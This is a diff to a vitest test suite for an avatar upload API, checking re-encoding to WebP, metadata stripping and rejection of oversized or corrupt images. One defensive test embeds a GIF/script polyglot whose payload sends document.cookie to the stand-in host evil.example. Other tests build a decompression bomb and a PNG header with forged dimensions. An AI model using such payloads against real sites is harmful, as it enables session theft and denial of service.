@@ -5,10 +5,13 @@ import { existsSync, readFileSync } from 'node:fs';
 import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { crc32, deflateSync } from 'node:zlib';
+import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { App } from '../../api/app.ts';
 import { db } from '../../api/db/client.ts';
 import type { Database } from '../../api/db/database.ts';
+import { AVATAR_MAX_BYTES } from '../../api/modules/user/user.service.ts';
 import { createTestApp, type TestApp } from '../helpers/testApp.ts';
 import { createTestDatabase } from '../helpers/testDatabase.ts';
 
@@ -74,28 +77,110 @@ const padded = (image: Buffer, size: number) => Buffer.concat([image, Buffer.all
 
 const files = async () => (existsSync(avatarDir) ? (await readdir(avatarDir)).sort() : []);
 
-describe('uploading an avatar', () => {
-  it.each([
-    ['PNG', PNG, 'png', 'image/png'],
-    ['JPEG', JPEG, 'jpg', 'image/jpeg'],
-    ['WebP', WEBP, 'webp', 'image/webp'],
-    ['GIF', GIF, 'gif', 'image/gif'],
-  ])('stores a %s under a random name and serves it with its type and a long cache', async (_, image, extension, contentType) => {
-    const { token, userId } = await login();
-    const reply = await upload([{ filename: 'me.bin', contentType: 'application/octet-stream', data: image }], { token });
-    expect(reply.status).toBe(200);
-    expect(reply.body.code).toBe(0);
-    const url: string = reply.body.data.avatar;
-    expect(url).toMatch(new RegExp(`^/uploads/avatars/[0-9a-f]{32}\\.${extension}$`));
-    expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBe(url);
-    expect(readFileSync(path.join(avatarDir, path.basename(url)))).toEqual(image);
+/** A real image of `format`, 300 × 200 pixels in two colours, carrying metadata (EXIF with a GPS position, an ICC profile). */
+const photo = (format: 'png' | 'jpeg' | 'webp' | 'gif') =>
+  sharp({ create: { width: 300, height: 200, channels: 3, background: { r: 200, g: 30, b: 40 } } })
+    .composite([{ input: { create: { width: 100, height: 200, channels: 3, background: { r: 10, g: 120, b: 250 } } }, left: 0, top: 0 }])
+    .withMetadata({ exif: { IFD0: { Copyright: 'secret-owner', Artist: 'gps-31.23N-121.47E' } } })
+    .toFormat(format)
+    .toBuffer();
 
-    const served = await app.inject({ method: 'GET', url });
-    expect(served.statusCode).toBe(200);
-    expect(served.headers['content-type']).toBe(contentType);
-    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
-    expect(served.headers['x-content-type-options']).toBe('nosniff');
-    expect(served.rawPayload).toEqual(image);
+/** A PNG whose IHDR claims `width` × `height` (with a valid CRC) followed by nothing of that size. */
+function pngClaiming(width: number, height: number): Buffer {
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr.set([8, 2, 0, 0, 0], 8);
+  const chunk = (type: string, data: Buffer) => {
+    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(body));
+    return Buffer.concat([length, body, crc]);
+  };
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', ihdr),
+    chunk('IDAT', deflateSync(Buffer.alloc(64))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+describe('uploading an avatar', () => {
+  it.each(['png', 'jpeg', 'webp', 'gif'] as const)(
+    'stores a %s only as its re-encoding: a 256 × 256 WebP without metadata under a random name, served as such with a long cache',
+    async (format) => {
+      const { token, userId } = await login();
+      const image = await photo(format);
+      const reply = await upload([{ filename: 'me.bin', contentType: 'application/octet-stream', data: image }], { token });
+      expect(reply.status).toBe(200);
+      expect(reply.body.code).toBe(0);
+      const url: string = reply.body.data.avatar;
+      expect(url).toMatch(/^\/uploads\/avatars\/[0-9a-f]{32}\.webp$/);
+      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBe(url);
+      const stored = readFileSync(path.join(avatarDir, path.basename(url)));
+      expect(stored.equals(image)).toBe(false);
+      const metadata = await sharp(stored).metadata();
+      expect(metadata).toMatchObject({ format: 'webp', width: 256, height: 256 });
+      expect(metadata.exif).toBeUndefined();
+      expect(metadata.icc).toBeUndefined();
+      expect(stored.includes('secret-owner')).toBe(false);
+
+      const served = await app.inject({ method: 'GET', url });
+      expect(served.statusCode).toBe(200);
+      expect(served.headers['content-type']).toBe('image/webp');
+      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
+      expect(served.headers['x-content-type-options']).toBe('nosniff');
+      expect(served.rawPayload).toEqual(stored);
+    },
+  );
+
+  it('neutralises a GIF/script polyglot: what is stored and served is a fresh image without the script', async () => {
+    const { token } = await login();
+    const payload = '\n/*<script>alert(document.cookie)</script>*/=1;fetch("//evil.example/"+document.cookie)//';
+    const polyglot = Buffer.concat([await photo('gif'), Buffer.from(payload)]);
+    const reply = await upload([{ filename: 'cat.gif', contentType: 'image/gif', data: polyglot }], { token });
+    expect(reply.body.code).toBe(0);
+    const served = await app.inject({ method: 'GET', url: reply.body.data.avatar });
+    expect(served.headers['content-type']).toBe('image/webp');
+    expect(served.rawPayload.includes('script')).toBe(false);
+    expect(served.rawPayload.includes('evil.example')).toBe(false);
+    expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
+  });
+
+  it.each([
+    ['a header claiming 100000 × 100000 pixels', () => Promise.resolve(pngClaiming(100_000, 100_000))],
+    // a decompression bomb: a small file (one colour compresses to almost nothing) that decodes to 36 million pixels
+    [
+      'a decompression bomb of 6000 × 6000 pixels',
+      () =>
+        sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#ffffff' } })
+          .png({ compressionLevel: 9 })
+          .toBuffer(),
+    ],
+  ])('refuses %s before decoding it, keeping the old avatar', async (_, make) => {
+    const { token, userId } = await login();
+    const bomb = await make();
+    expect(bomb.length).toBeLessThan(AVATAR_MAX_BYTES);
+    const before = await files();
+    const reply = await upload([{ filename: 'big.png', contentType: 'image/png', data: bomb }], { token });
+    expect(reply).toEqual({ status: 400, body: { code: 400, msg: '图片尺寸过大，像素总数不能超过 5000 × 5000', data: null } });
+    expect((await upload([{ filename: 'big.png', contentType: 'image/png', data: bomb }], { token, language: 'en' })).body.msg).toBe(
+      'The image is too large: at most 5000 × 5000 pixels',
+    );
+    expect(await files()).toEqual(before);
+    expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
+  });
+
+  it.each([
+    ['a truncated PNG', async () => (await photo('png')).subarray(0, 120)],
+    ['a JPEG header over zeros', async () => JPEG],
+  ])('refuses %s that cannot be decoded', async (_, make) => {
+    const { token, userId } = await login();
+    const reply = await upload([{ filename: 'broken.png', contentType: 'image/png', data: await make() }], { token });
+    expect(reply).toEqual({ status: 400, body: { code: 400, msg: '无法读取这张图片，文件可能已损坏，请换一张', data: null } });
+    expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
   });
 
   it('replaces the previous upload and deletes its file; the viewer shows the new one', async () => {
@@ -147,7 +232,8 @@ describe('uploading an avatar', () => {
   it('reads the real type from the bytes, not the name', async () => {
     const { token } = await login();
     const reply = await upload([{ filename: 'notes.txt', contentType: 'text/plain', data: GIF }], { token });
-    expect(reply.body.data.avatar).toMatch(/\.gif$/);
+    expect(reply.body.code).toBe(0);
+    expect(reply.body.data.avatar).toMatch(/\.webp$/);
   });
 
   it('refuses no file, an empty file, a JSON body (415) and two files', async () => {
